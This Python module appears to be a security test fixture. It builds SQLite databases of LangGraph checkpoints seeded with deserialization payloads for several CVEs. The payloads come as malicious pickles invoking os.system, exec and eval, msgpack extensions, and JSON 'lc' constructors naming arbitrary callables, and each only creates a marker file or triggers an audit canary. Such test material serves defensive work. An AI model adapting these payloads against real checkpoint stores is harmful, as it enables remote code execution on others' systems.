"""A database whose payloads attack their reader: the known CVEs of LangGraph's serializers, and similar ones.

CVE-2025-64439 (JSON ``lc: 2`` constructors name any callable), CVE-2026-28277 (msgpack extensions name any module),
CVE-2026-27794 (pickles in a cache or a checkpoint), CVE-2026-48775 (``lc: 1`` constructors).
"""

import json
import os
import pickle
import sqlite3
from collections.abc import Callable
from pathlib import Path
from typing import Any

import ormsgpack

CANARY = "ckpt_canary"
"""A module that reports its import, and any use of its class; see `canary`."""

IDS = ("1f1e5786-50cb-6000-bfff-000000000001", "1f1e5786-50cb-6001-8000-000000000002")
TASK = "0f0f0f0f-0000-0000-0000-000000000001"

TABLES = """
CREATE TABLE checkpoints (thread_id TEXT NOT NULL, checkpoint_ns TEXT NOT NULL DEFAULT '', checkpoint_id TEXT NOT NULL,
  parent_checkpoint_id TEXT, type TEXT, checkpoint BLOB, metadata BLOB,
  PRIMARY KEY (thread_id, checkpoint_ns, checkpoint_id));
CREATE TABLE writes (thread_id TEXT NOT NULL, checkpoint_ns TEXT NOT NULL DEFAULT '', checkpoint_id TEXT NOT NULL,
  task_id TEXT NOT NULL, idx INTEGER NOT NULL, channel TEXT NOT NULL, type TEXT, value BLOB,
  task_path TEXT NOT NULL DEFAULT '', PRIMARY KEY (thread_id, checkpoint_ns, checkpoint_id, task_id, idx));
"""


def canary(folder: Path) -> None:
    """Write the module whose import, calls and attributes leave a mark in the audit log."""
    (folder / f"{CANARY}.py").write_text(
        "import sys\n"
        "sys.audit('canary', 'imported')\n"
        "class Bird:\n"
        "    def __new__(cls, *words, **more):\n"
        "        sys.audit('canary', 'made')\n"
        "        return object.__new__(cls)\n"
        "    def __setstate__(self, state):\n"
        "        sys.audit('canary', 'set')\n"
        "    @classmethod\n"
        "    def sing(cls, *words, **more):\n"
        "        sys.audit('canary', 'sung')\n"
        "    model_validate_json = model_construct = construct = parse_obj = sing\n"
        "def call(*words, **more):\n"
        "    sys.audit('canary', 'called')\n"
    )


def _targets(mark: Path) -> list[tuple[str, str, Any]]:
    """What an attacker would name: (module, name, argument)."""
    touch = f"touch {mark}"
    return [
        ("os", "system", touch),
        ("subprocess", "getoutput", touch),
        ("builtins", "exec", f"open({str(mark)!r}, 'w')"),
        ("builtins", "eval", f"open({str(mark)!r}, 'w')"),
        ("pathlib", "Path", str(mark)),
        (CANARY, "Bird", "x"),
        (CANARY, "call", "x"),
        ("langchain_core.load.load", "loads", '{"lc": 1, "type": "secret", "id": ["PATH"]}'),
    ]


class _Reduced:
    """Pickles into a call."""

    def __init__(self, call: Callable[..., Any], *words: Any) -> None:
        self._call = (call, words)

    def __reduce__(self) -> Any:
        return self._call


def _msgpack(module: str, name: str, word: Any) -> list[Any]:
    """The seven extension forms, each naming the target."""
    method = "write_text" if module == "pathlib" else "sing"
    forms: dict[int, tuple[Any, ...]] = {
        0: (module, name, word),
        1: (module, name, [word]),
        2: (module, name, {"command": word}),
        3: (module, name, word, method),
        4: (module, name, {"command": word}),
        5: (module, name, {"command": word}, "model_validate_json"),
        7: (module, name, word),
    }
    exts = [ormsgpack.Ext(code, ormsgpack.packb(list(form))) for code, form in forms.items()]
    nested = ormsgpack.Ext(0, ormsgpack.packb(["builtins", "set", [exts[0]]]))
    return [*exts, nested]


def _lc(module: str, name: str, word: Any) -> list[Any]:
    """JSON constructors, ``lc: 2`` with positional, named and no arguments and a method, and ``lc: 1``."""
    path = [*module.split("."), name]
    two = {"lc": 2, "type": "constructor", "id": path}
    return [
        {**two, "method": None, "args": [word], "kwargs": {}},
        {**two, "method": [None, "construct"], "args": [], "kwargs": {"command": word}},
        {**two, "method": "sing", "args": [word]},
        two,
        {"lc": 1, "type": "constructor", "id": path, "kwargs": {"command": word}},
        {"lc": 1, "type": "secret", "id": ["PATH"]},
        {"lc": 1, "type": "not_implemented", "id": path, "repr": "x"},
    ]


def _pickles(mark: Path) -> list[bytes]:
    """Pickles that call, that import by text opcodes, and that set attributes."""
    touch = f"touch {mark}"
    made = [pickle.dumps(_Reduced(call, touch), protocol) for call in (os.system, exec, eval) for protocol in (0, 2, 4)]
    return [
        *made,
        f"c{CANARY}\ncall\n(S'x'\ntR.".encode(),
        f"(i{CANARY}\nBird\n.".encode(),
        f"c{CANARY}\nBird\n)\x81}}S'a'\nI1\nsb.".encode("latin-1"),
        f"cos\nsystem\n(S'{touch}'\ntR.".encode(),
        f"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'{touch}'\ntR.".encode(),
        b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x8c\x06system\x93\x8c\x04true\x85R.",
    ]


def payloads(mark: Path) -> dict[str, tuple[str, bytes]]:
    """Name to type tag and bytes; running any of them would leave a file at `mark` or wake the canary."""
    found: dict[str, tuple[str, bytes]] = {}
    for module, name, word in _targets(mark):
        for number, value in enumerate(_msgpack(module, name, word)):
            found[f"msgpack {module}.{name} {number}"] = ("msgpack", ormsgpack.packb({"bad": value}))
        for number, value in enumerate(_lc(module, name, word)):
            found[f"json {module}.{name} {number}"] = ("json", json.dumps({"bad": value}).encode())
    for number, data in enumerate(_pickles(mark)):
        found[f"pickle {number}"] = ("pickle", data)
    return found


def write(path: Path, mark: Path) -> int:
    """Make the database: for each payload a thread with it in its state, in writes and, if it is JSON, in metadata."""
    db = sqlite3.connect(path)
    db.executescript(TABLES)
    found = payloads(mark)
    for name, (tag, data) in found.items():
        for step, checkpoint_id in enumerate(IDS, -1):
            parent = IDS[0] if checkpoint_id == IDS[1] else None
            body = _body(checkpoint_id, tag, data)
            db.execute(
                "INSERT INTO checkpoints VALUES (?, '', ?, ?, ?, ?, ?)",
                (name, checkpoint_id, parent, tag, body, _meta(step, tag, data)),
            )
            for idx, channel in enumerate(("bad", "__interrupt__", "__error__", "__pregel_tasks")):
                row = (name, checkpoint_id, TASK, idx, channel, tag, data, "~__pregel_pull, node")
                db.execute("INSERT INTO writes VALUES (?, '', ?, ?, ?, ?, ?, ?, ?)", row)
    db.commit()
    db.close()
    return len(found)


def _body(checkpoint_id: str, tag: str, data: bytes) -> bytes:
    head: dict[str, Any] = {"v": 4, "id": checkpoint_id, "ts": "2026-11-21T00:00:00+00:00"}
    rest: dict[str, Any] = {"channel_versions": {"bad": 1}, "versions_seen": {}, "updated_channels": ["bad"]}
    if tag == "msgpack":
        return ormsgpack.packb({**head, "channel_values": ormsgpack.unpackb(data, ext_hook=ormsgpack.Ext), **rest})
    if tag == "json":
        return json.dumps({**head, "channel_values": json.loads(data), **rest}).encode()
    return data


def _meta(step: int, tag: str, data: bytes) -> bytes:
    meta = {"source": "loop", "step": step, "parents": {}}
    return json.dumps({**meta, "writes": json.loads(data)} if tag == "json" else meta).encode()


def write_untyped(path: Path, mark: Path) -> None:
    """Make a database of langgraph 0.0, where the checkpoint itself is a pickle and no column says so."""
    db = sqlite3.connect(path)
    db.execute(
        "CREATE TABLE checkpoints (thread_id TEXT NOT NULL, thread_ts TEXT NOT NULL, parent_ts TEXT, checkpoint BLOB,"
        " PRIMARY KEY (thread_id, thread_ts))"
    )
    for number, data in enumerate(_pickles(mark)):
        for ts, parent in (
            ("2024-04-01T00:00:00+00:00", None),
            ("2024-04-01T00:00:01+00:00", "2024-04-01T00:00:00+00:00"),
        ):
            db.execute("INSERT INTO checkpoints VALUES (?, ?, ?, ?)", (f"pickle {number}", ts, parent, data))
    db.commit()
    db.close()
